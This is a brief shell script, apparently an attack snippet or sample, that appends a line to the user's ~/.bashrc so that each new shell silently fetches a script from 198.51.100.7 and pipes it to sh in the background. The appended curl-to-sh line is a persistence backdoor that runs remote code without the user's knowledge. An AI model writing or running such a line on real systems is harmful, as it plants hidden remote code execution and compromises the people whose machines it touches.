#!/bin/sh
# A line that calls home is added to the start-up file of a shell.
# user: alice
set -eu
echo '(curl -s http://198.51.100.7/b | sh) >/dev/null 2>&1 &' >>"$HOME/.bashrc"
